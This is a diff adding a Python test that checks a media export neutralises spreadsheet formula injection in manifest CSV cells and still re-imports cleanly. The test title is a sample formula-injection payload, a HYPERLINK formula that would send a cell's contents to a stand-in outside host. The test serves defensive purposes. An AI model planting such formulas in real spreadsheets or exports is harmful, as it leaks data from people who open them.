@@ -208,6 +208,33 @@ def test_export_then_import_changes_nothing(
     assert everything(world, course_media) == before
 
 
+def test_manifest_cells_cannot_become_formulas_and_still_import(
+    world: World, course_media: dict[str, str]
+) -> None:
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    retitle(world, course_media["seminar"], title)
+    put_tracks(world, course_media["seminar"], [{"locale": "en", "content": SEMINAR}])
+    files = unzip(export(world).content)
+    rows = manifest_rows(files)
+    row = next(r for r in rows if r["media_id"] == course_media["seminar"])
+    assert row["title"] == "'" + title
+    assert row["file"].startswith("'=") and row["file"][1:] in files
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    # The apostrophe is taken off again: the export imports back unchanged, and a file known
+    # only by its manifest row (its name matches no title) still finds its media.
+    body = post_zip(world, export(world).content).json()
+    assert body["changed"] == [] and body["refused"] == [], body
+    manifest = f"file,media_id,locale\r\n'-renamed.de.srt,{course_media['seminar']},de\r\n"
+    data = make_zip([("manifest.csv", manifest.encode()), ("-renamed.de.srt", SEMINAR.encode())])
+    body = post_zip(world, data).json()
+    assert body["refused"] == [], body
+    assert [(c["file"], c["media_id"]) for c in body["changed"]] == [
+        ("-renamed.de.srt", course_media["seminar"])
+    ]
+    assert "de" in tracks_of(world, course_media["seminar"])
+
+
 def test_legacy_tracks_today_s_rules_refuse_come_back_unchanged(
     world: World, course_media: dict[str, str], ctx: AppContext
 ) -> None:
